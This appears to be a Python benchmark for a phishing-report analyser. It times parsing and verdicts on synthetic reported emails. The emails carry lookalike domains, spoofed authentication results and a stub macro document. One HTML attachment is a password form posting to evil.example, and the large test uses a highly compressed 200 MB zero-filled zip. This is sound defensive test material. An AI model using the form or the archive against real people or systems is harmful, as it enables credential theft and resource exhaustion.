"""Reported-email analysis: parse + offline engines + verdict, per report, on a generated mix.

Typical reports (under 1 MB): plain and HTML messages with links (some wrapped by Safe Links),
authentication results and trace headers, small PDF/zip/OOXML/HTML attachments, forwards
that attach the original. Each is analysed with `parse_report` then `analyze` (the built-in
offline engines) in one event loop; p50 and p99 are over all of them.

Large report: one 25 MB message (a base64 attachment, a zip and an HTML body), analysed in a
child process whose peak RSS is the memory figure (`ru_maxrss`, so the parent's own memory
does not count).

Targets (the issue): typical p50 < 50 ms and p99 < 300 ms; 25 MB < 3 s and < 300 MB peak.
The baseline, measured in the same run on the same inputs, is the standard library alone:
`email.message_from_bytes(raw, policy=policy.default)` and a walk decoding every part.
"""

from __future__ import annotations

import asyncio
import io
import json
import random
import statistics
import subprocess
import sys
import textwrap
import time
import zipfile
from email import message_from_bytes, policy
from email.message import EmailMessage, Message
from typing import Any

from mailtrawl.analysis.model import AnalysisContext
from mailtrawl.analysis.parsing import parse_reported_email
from mailtrawl.analysis.service import analyze

TYPICAL_COUNT = 300
TARGET_P50_MS = 50.0
TARGET_P99_MS = 300.0
TARGET_LARGE_S = 3.0
TARGET_LARGE_MB = 300.0
CONTEXT = AnalysisContext(
    own_domains=("contoso.com",), colleague_names=("Jane Smith", "Bob Jones", "Ana Lima")
)
_DOMAINS = ["paypa1.com", "microsoft-login.example", "newsletter.example", "partner.example",
            "contoso.co", "bit.ly", "203.0.113.9", "shop.example.co.uk", "docs.example.tk"]  # fmt: skip
_WORDS = [
    "invoice",
    "payment",
    "account",
    "verify",
    "please",
    "review",
    "the",
    "attached",
    "document",
    "urgent",
    "today",
]


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _typical(rng: random.Random, n: int) -> bytes:
    msg = EmailMessage(policy=policy.SMTP)
    domain = rng.choice(_DOMAINS[:5])
    msg["Received"] = (
        f"from mail.{domain} (mail.{domain} [198.51.100.{n % 250}]) by mx1.contoso.com; "
        "Tue, 2 Jan 2024 08:15:02 +0000"
    )
    msg["Received"] = "from [10.0.0.5] by mail.example; Tue, 2 Jan 2024 08:15:00 +0000"
    result = rng.choice(["pass", "fail", "softfail", "none"])
    msg["Authentication-Results"] = (
        f"mx1.contoso.com; spf={result} smtp.mailfrom={domain}; dkim={rng.choice(['pass', 'none'])}; "
        f"dmarc={rng.choice(['pass', 'fail'])} header.from={domain}; compauth={rng.choice(['pass', 'fail'])} reason=000"
    )
    msg["From"] = f"{rng.choice(['Jane Smith', 'Billing', 'IT Desk'])} <user{n}@{domain}>"
    msg["To"] = "bob@contoso.com"
    msg["Subject"] = " ".join(rng.choices(_WORDS, k=5))
    if rng.random() < 0.3:
        msg["Reply-To"] = f"reply{n}@gmail.com"
    links = []
    for _ in range(rng.randint(1, 25)):
        host = rng.choice(_DOMAINS)
        url = f"https://{host}/{rng.choice(['login', 'news', 'a/b', 'signin/verify'])}?id={rng.randint(1, 10**6)}"
        if rng.random() < 0.3:
            url = f"https://nam02.safelinks.protection.outlook.com/?url={url.replace(':', '%3A').replace('/', '%2F')}&data=x"
        links.append(
            f'<p><a href="{url}">{rng.choice(["Click here", "https://www.paypal.com/", host])}</a></p>'
        )
    paragraphs = " ".join(rng.choices(_WORDS, k=rng.randint(50, 3000)))
    msg.set_content(paragraphs)
    msg.add_alternative(
        f"<html><body><p>{paragraphs}</p>{''.join(links)}</body></html>", subtype="html"
    )
    kind = n % 6
    if kind == 1:
        msg.add_attachment(
            b"%PDF-1.4\n" + rng.randbytes(rng.randint(10_000, 400_000)),
            maintype="application",
            subtype="pdf",
            filename="invoice.pdf",
        )
    elif kind == 2:
        archive = _zip({"readme.txt": b"hello " * 1000, "tool.exe": b"MZ" + rng.randbytes(50_000)})
        msg.add_attachment(archive, maintype="application", subtype="zip", filename="files.zip")
    elif kind == 3:
        docx = _zip(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/document.xml": b"<w/>" * 5000,
                "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
            }
        )
        msg.add_attachment(
            docx, maintype="application", subtype="octet-stream", filename="report.docm"
        )
    elif kind == 4:
        msg.add_attachment(
            b"<html><form action='https://evil.example/p'><input type=password></form></html>",
            maintype="text",
            subtype="html",
            filename="scan.html",
        )
    raw = msg.as_bytes()
    if n % 5 == 0:  # a forward-as-attachment report wrapping it
        wrapper = EmailMessage(policy=policy.SMTP)
        wrapper["From"] = "Bob <bob@contoso.com>"
        wrapper["To"] = "phish@contoso.com"
        wrapper["Subject"] = "Suspicious"
        wrapper.set_content("Reported.")
        wrapper.add_attachment(message_from_bytes(raw, policy=policy.SMTP), filename="original.eml")
        raw = wrapper.as_bytes()
    return raw


def _stdlib_baseline(raw: bytes) -> None:
    message = message_from_bytes(raw, policy=policy.default)
    for part in message.walk():
        if isinstance(part, Message) and not part.is_multipart():
            part.get_payload(decode=True)


def _percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(q * (len(ordered) - 1)))]


def _typical_run(reports: list[bytes]) -> dict[str, Any]:
    loop = asyncio.new_event_loop()
    try:
        # Warm-up: the public suffix list and regexes are built on first use.
        report, _ = parse_reported_email(reports[0])
        loop.run_until_complete(analyze(report, context=CONTEXT))
        times: list[float] = []
        verdicts: dict[str, int] = {}
        for raw in reports:
            started = time.perf_counter()
            report, _ = parse_reported_email(raw)
            result = loop.run_until_complete(analyze(report, context=CONTEXT))
            times.append((time.perf_counter() - started) * 1000)
            verdicts[result.verdict.value] = verdicts.get(result.verdict.value, 0) + 1
    finally:
        loop.close()
    baseline: list[float] = []
    for raw in reports:
        started = time.perf_counter()
        _stdlib_baseline(raw)
        baseline.append((time.perf_counter() - started) * 1000)
    p50, p99 = statistics.median(times), _percentile(times, 0.99)
    base_p50, base_p99 = statistics.median(baseline), _percentile(baseline, 0.99)
    return {
        "reports": len(reports),
        "mean_size_kb": round(statistics.mean(len(r) for r in reports) / 1024, 1),
        "max_size_kb": round(max(len(r) for r in reports) / 1024, 1),
        "verdicts": verdicts,
        "p50_ms": round(p50, 2),
        "p99_ms": round(p99, 2),
        "baseline_stdlib_parse_p50_ms": round(base_p50, 2),
        "baseline_stdlib_parse_p99_ms": round(base_p99, 2),
        "ratio_p50_to_baseline": round(p50 / base_p50, 2) if base_p50 else None,
        "target_p50_ms": TARGET_P50_MS,
        "target_p99_ms": TARGET_P99_MS,
        "meets_target": p50 < TARGET_P50_MS and p99 < TARGET_P99_MS,
    }


_LARGE_CHILD = textwrap.dedent(
    """
    import asyncio, io, json, os, random, resource, sys, time, zipfile
    from email import message_from_bytes, policy
    from email.message import EmailMessage
    mode = sys.argv[1]
    rng = random.Random(7)
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"] = "Billing <billing@paypa1.com>"
    msg["To"] = "bob@contoso.com"
    msg["Subject"] = "Large report"
    msg.set_content("see attached " * 1000)
    msg.add_alternative("<p>" + "<a href='https://bit.ly/x'>x</a> word " * 20000 + "</p>", subtype="html")
    msg.add_attachment(rng.randbytes(14 * 1024 * 1024), maintype="application", subtype="pdf", filename="scan.pdf")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.bin", rng.randbytes(3 * 1024 * 1024))
        archive.writestr("zeros.bin", bytes(200 * 1024 * 1024))
    msg.add_attachment(buffer.getvalue(), maintype="application", subtype="zip", filename="files.zip")
    raw = msg.as_bytes()
    del msg, buffer
    start_rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    started = time.perf_counter()
    if mode == "analysis":
        from mailtrawl.analysis.model import AnalysisContext
        from mailtrawl.analysis.parsing import parse_report
        from mailtrawl.analysis.service import analyze
        report = parse_report(raw)
        result = asyncio.run(analyze(report, context=AnalysisContext(own_domains=("contoso.com",))))
        verdict = result.verdict.value
    else:
        message = message_from_bytes(raw, policy=policy.default)
        for part in message.walk():
            if not part.is_multipart():
                part.get_payload(decode=True)
        verdict = None
    elapsed = time.perf_counter() - started
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(json.dumps({"size_mb": round(len(raw) / 2**20, 1), "seconds": round(elapsed, 3),
                      "peak_rss_mb": round(peak, 1), "rss_before_mb": round(start_rss, 1),
                      "verdict": verdict}))
    """
)


def _large_run() -> dict[str, Any]:
    def child(mode: str) -> dict[str, Any]:
        done = subprocess.run(
            [sys.executable, "-c", _LARGE_CHILD, mode],
            capture_output=True,
            text=True,
            timeout=300,
            check=True,
        )
        result: dict[str, Any] = json.loads(done.stdout.strip().splitlines()[-1])
        return result

    analysis, baseline = child("analysis"), child("baseline")
    return {
        **analysis,
        "baseline_stdlib_parse": baseline,
        "ratio_seconds_to_baseline": round(analysis["seconds"] / baseline["seconds"], 2)
        if baseline["seconds"]
        else None,
        "target_seconds": TARGET_LARGE_S,
        "target_peak_rss_mb": TARGET_LARGE_MB,
        "meets_target": analysis["seconds"] < TARGET_LARGE_S
        and analysis["peak_rss_mb"] < TARGET_LARGE_MB,
    }


def run(*, quick: bool = False) -> dict[str, Any]:
    rng = random.Random(42)
    reports = [_typical(rng, n) for n in range(60 if quick else TYPICAL_COUNT)]
    assert all(len(raw) < 1024 * 1024 for raw in reports)
    return {"typical": _typical_run(reports), "large_25mb": _large_run()}


if __name__ == "__main__":
    print(json.dumps(run(quick="--quick" in sys.argv), indent=2))
